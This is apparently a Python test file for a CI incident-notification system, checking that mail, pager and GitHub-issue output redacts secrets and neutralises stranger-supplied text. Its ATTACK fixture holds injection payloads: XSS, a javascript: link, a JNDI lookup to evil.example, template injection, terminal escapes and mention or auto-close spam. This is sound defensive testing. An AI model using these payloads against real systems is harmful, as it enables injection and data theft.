"""What people read of an incident: all of it that matters, and nothing that a stranger wrote does anything there."""

from __future__ import annotations

import dataclasses
import html
import json
import re
from typing import Any

import pytest

from ci.model import Outcome, Ruling
from ci.promotion.notices import channels, issue, mailing, paging, wording
from ci.promotion.notices.story import CHANGE, Change, Ending, Excerpt, Link, Over, Story
from ci.promotion.notices.story import STORY as JSON
from ci.promotion.notices.taming import LARGEST_REPORT, Tamer
from ci.vendors.github.texts import LONGEST_BODY, bears, mark
from ci.vendors.pagerduty import LONGEST_DETAILS, LONGEST_SUMMARY
from tests.promotion.notified import BAD, GOOD, STORY

SECRETS = {"environments.production.vercel.token": "vercel-token-0123456789", "short": "x"}
(SECRET, _) = SECRETS.values()
INVISIBLE = "vercel-\u200btoken-\u202e0123456789"
ATTACK = "\n".join(
    (
        "@everyone fixes #1, closes acme/receipts#2 and resolves GH-3",
        "```",
        "``````````",
        "~~~",
        f"{mark('incident-another')}",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "</pre></td></table></div><h1>All is well</h1>",
        "[click](javascript:alert(1)) ![pixel](https://evil.example/p.png)",
        "\x1b[31mred\x1b[0m \x1b]0;title\x07 \u202egnp\u200b",
        f"the token is {SECRET}, or {INVISIBLE}",
        "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example}",
        "\udc80 half a character",
    )
)
HOSTILE = dataclasses.replace(
    STORY,
    what=ATTACK,
    reason=ATTACK,
    apps=("api", ATTACK),
    rulings=(Ruling(gate=ATTACK, environment="production", ruling=Outcome.FAIL, reason=ATTACK, values={"a": SECRET}),),
    excerpts=(Excerpt(name=ATTACK, text=ATTACK),),
    links=(
        Link(name=ATTACK, address="https://receipts.example/a"),
        Link(name="script", address="javascript:alert(1)"),
        Link(name="token", address=f"https://receipts.example/?token={SECRET}"),
        Link(name="reference", address="https://github.com/acme/receipts/issues/7"),
    ),
    advice=ATTACK,
    command=f"shipway incident one --token {SECRET}",
    report=f"<p>{SECRET}</p>".encode(),
)
TAMED = Tamer(SECRETS).story(HOSTILE)


def outside_of_code(markdown: str) -> str:
    """Return what of a Markdown text is none of its fenced blocks and code spans, as CommonMark has it."""
    lines: list[str] = []
    fence: str | None = None
    for line in markdown.split("\n"):
        opened = re.match(r"(`{3,})[^`]*$", line)
        if fence is None and opened:
            fence = opened[1]
        elif fence is None:
            lines.append(line)
        elif re.fullmatch(f"`{{{len(fence)},}} *", line):
            fence = None
    assert fence is None, "a block stays open"
    return re.sub(r"(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)", "CODE", "\n".join(lines))


def texts(story: Story) -> dict[str, str]:
    """Return all that is written of a story, by where it is read."""
    alert = paging.alert(story)
    return {
        "subject": mailing.mail(story, sender="a@b.test", to=("c@d.test",)).title,
        "text": mailing.to_text(story),
        "html": mailing.to_html(story),
        "page": json.dumps([alert.summary, alert.source, alert.links, dict(alert.details)], ensure_ascii=False),
        "title": issue.title(story),
        "issue": issue.body(story),
        "kept": JSON.dump_json(story, exclude={"report"}).decode(),
    }


def test_no_secret_and_nothing_that_a_terminal_obeys_is_in_anything_that_is_written() -> None:
    written = texts(TAMED)
    written["report"] = (TAMED.report or b"").decode()
    for where, text in written.items():
        plain = html.unescape(text)
        assert SECRET not in plain, where
        assert "0123456789" not in plain, where
        assert not {"\x1b", "\\u001b", "\u202e", "\u200b", "\udc80"} & set(plain), where
    assert "[redacted environments.production.vercel.token]" in written["text"]


def test_a_strangers_text_is_nothing_but_code_in_an_issue() -> None:
    ours = outside_of_code(issue.body(TAMED))
    for word in ("@", "#1", "#2", "GH-3", "fixes", "<script", "<img", "](", "~~~", "javascript", "github.com", "7 * 7"):
        assert word not in ours, word
    assert "<https://receipts.example/a>" in ours
    assert not bears(issue.body(TAMED), "incident-another")
    assert bears(f"text\n{mark('incident-another')}", "incident-another")


def test_a_title_mentions_nobody_and_refers_to_nothing() -> None:
    title = issue.title(TAMED)
    assert not set("@#`<>[]\n*/") & set(title)
    assert "GH-3" not in title
    assert len(title) <= issue.LONGEST_TITLE
    for what in ("@everyone", "fixes #1", "closes GH-12", "a\nb"):
        told = issue.title(dataclasses.replace(STORY, what=what))
        assert not re.search(r"[@#\n]|GH-[0-9]", told), told


def test_the_mail_runs_nothing_loads_nothing_and_stays_as_it_is_built() -> None:
    page = mailing.to_html(TAMED)
    usual = mailing.to_html(STORY)
    for tag in ("script", "img", "iframe", "link", "form", "h1", "svg", "object"):
        assert len(re.findall(f"<{tag}[ >]", page)) == len(re.findall(f"<{tag}[ >]", usual)), tag
    assert re.findall(r"<a href=\"([^\"]*)\"", page) == [
        "https://receipts.example/a",
        "https://github.com/acme/receipts/issues/7",
    ]
    assert not re.search(r"\bsrc=|url\(|@import", re.sub(r"&lt;.*?&gt;", "", page))
    assert "default-src 'none'" in page
    assert "onerror=" not in re.sub(r"&lt;.*?&gt;", "", page)


def test_the_mail_says_first_what_happened_whether_users_are_safe_and_what_is_next() -> None:
    text = mailing.to_text(STORY)
    places = [
        text.index(words)
        for words in (
            "Production was rolled back.",
            "Users are safe: they get 789b789b789b again since 2026-09-21 14:14:01 UTC.",
            "TypeError: merchant is undefined: 14 events",
            "3f2a3f2a3f2a is pinned: it cannot be promoted again",
            "    shipway incident one",
            BAD,
            GOOD,
            "1 new error, 14 events",
            "https://acme.sentry.example/dashboard",
            "at read (src/receipts.ts:41:17)",
            "The whole report is attached: report.html.",
        )
    ]
    assert places == sorted(places)
    page = html.unescape(mailing.to_html(STORY))
    for line in filter(None, (line.strip(" |") for line in text.split("\n"))):
        said = line.split("  ")[-1].strip()
        assert said in page or said.isupper() or ": " in said or said.endswith((".", "new_errors", "api")), said
    assert "Found         2026-09-21 14:14:01 UTC, 41.0 s after it began" in text
    assert "Restored      2026-09-21 14:14:01 UTC, 0.8 s after it was found" in text


@pytest.mark.parametrize(
    ("changes", "headline", "safety"),
    [
        (
            {"ending": Ending.MIXED, "safe": False},
            "Production is mixed: not every app is back",
            "Users are NOT safe: some of them get 3f2a3f2a3f2a, and some what served before.",
        ),
        (
            {"ending": Ending.LEFT, "safe": False, "returned_to": None},
            "Production is bad and was not rolled back",
            "Users are NOT safe: they still get 3f2a3f2a3f2a.",
        ),
        (
            {"ending": Ending.STOPPED, "returned_to": None, "environment": "staging"},
            "A release to staging was stopped",
            "Users are safe: they never got 3f2a3f2a3f2a.",
        ),
        (
            {"ending": Ending.HELD, "safe": None, "returned_to": None},
            "Nobody can see how production is",
            "Nobody knows whether users are safe: they still get 3f2a3f2a3f2a.",
        ),
        (
            {"ending": Ending.DOUBTED, "safe": None, "returned_to": None},
            "Production serves a release that a person should look at",
            "Nobody knows whether users are safe: they get 3f2a3f2a3f2a, and what speaks against it may be chance.",
        ),
        (
            {"ending": Ending.UNMERGED, "safe": True, "returned_to": None},
            "Production serves a good release that was not merged",
            "Users are safe: they get 3f2a3f2a3f2a, which proved good.",
        ),
        (
            {"safe": None, "restored": None},
            "Production was rolled back",
            "Nobody knows whether users are safe: they get 789b789b789b.",
        ),
    ],
)
def test_no_more_is_promised_than_is_known(changes: dict[str, Any], headline: str, safety: str) -> None:
    story = dataclasses.replace(STORY, **changes)
    assert (wording.headline(story), wording.safety(story)) == (headline, safety)
    assert wording.users(story) in wording.subject(story)
    for text in texts(story).values():
        assert wording.users(story) in text or text == issue.title(story) or text.startswith("{")


def test_a_commit_that_is_not_to_blame_is_said_to_be_none() -> None:
    assert "The cause is outside" in mailing.to_text(dataclasses.replace(STORY, pinned=False, outside=True))
    assert "3f2a3f2a3f2a is not pinned." in mailing.to_text(dataclasses.replace(STORY, pinned=False))


def test_what_is_endless_is_cut_to_what_the_vendors_take() -> None:
    endless = "word " * 100_000
    lines = "\n".join(f"line {number} {'`' * 200}" for number in range(10_000))
    story = dataclasses.replace(
        STORY,
        what=endless,
        reason=endless,
        apps=tuple(f"app-{number}" for number in range(1000)),
        rulings=tuple(dataclasses.replace(each, gate=endless, reason=endless) for each in STORY.rulings) * 200,
        excerpts=(Excerpt(name=endless, text=lines),) * 50,
        links=(Link(name=endless, address=f"https://a.example/{'a' * 1900}"),) * 200,
        advice=endless,
        command=endless,
        report=b"a" * (LARGEST_REPORT + 1),
    )
    tamed = Tamer({}).story(story)
    assert tamed.report is None
    assert "attached" not in mailing.to_text(tamed)
    assert len(issue.body(tamed)) < LONGEST_BODY - 200
    alert = paging.alert(tamed)
    assert len(alert.summary) == LONGEST_SUMMARY
    assert sum(len(name) + len(text) for name, text in alert.details.items()) < LONGEST_DETAILS
    assert len(mailing.to_html(tamed)) < 100_000  # above it Gmail shows a part only
    assert len(mailing.mail(tamed, sender="a@b.test", to=("c@d.test",)).subject) <= mailing.LONGEST_SUBJECT
    assert "line 9999" in mailing.to_text(tamed)


def test_a_story_is_the_same_after_it_was_kept() -> None:
    kept = JSON.validate_json(JSON.dump_json(STORY, exclude={"report"}))
    assert dataclasses.replace(kept, report=STORY.report) == STORY
    change = Change(flow="1", product="acme", environment="production", commit=BAD, moment=1.5, links=STORY.links)
    assert CHANGE.validate_json(CHANGE.dump_json(change)) == change


def test_the_end_is_said_in_one_line() -> None:
    over = Over(incident="one", product="acme/receipts", environment="production", commit=GOOD, moment=1_790_003_600.0)
    assert issue.ending(over) == "Over: production serves 789b789b789b, which passed, since 2026-09-21 15:13:20 UTC."


def test_any_incident_can_mark_an_issue_as_its_own() -> None:
    names = ("production-3f2a-20260921-ab12", "with space", "a--b", "über", "a\n-->", "x" * 500)
    keys = [channels.key_of(name) for name in names]
    assert len(set(keys)) == len(keys)
    assert keys[0] == f"incident-{names[0]}"
    assert all(mark(key) for key in keys)


def test_a_drill_is_called_one_in_every_channel_and_at_its_end() -> None:
    story = dataclasses.replace(STORY, drill=True, pinned=False)
    assert mailing.mail(story, sender="a@b.test", to=("c@d.test",)).subject.startswith("DRILL: ")
    assert paging.alert(story).summary.startswith("DRILL: ")
    assert issue.title(story).startswith("DRILL: ")
    for text in (mailing.to_text(story), mailing.to_html(story), issue.body(story)):
        assert wording.PLAYED in text
        assert "pinned: it cannot be promoted" not in text
    over = Over(incident="one", product="acme/receipts", environment="staging", commit=GOOD, moment=0.0, drill=True)
    assert issue.ending(over).startswith("DRILL, over: it was played, and staging serves 789b789b789b again since ")
    assert JSON.validate_json(JSON.dump_json(story)) == story
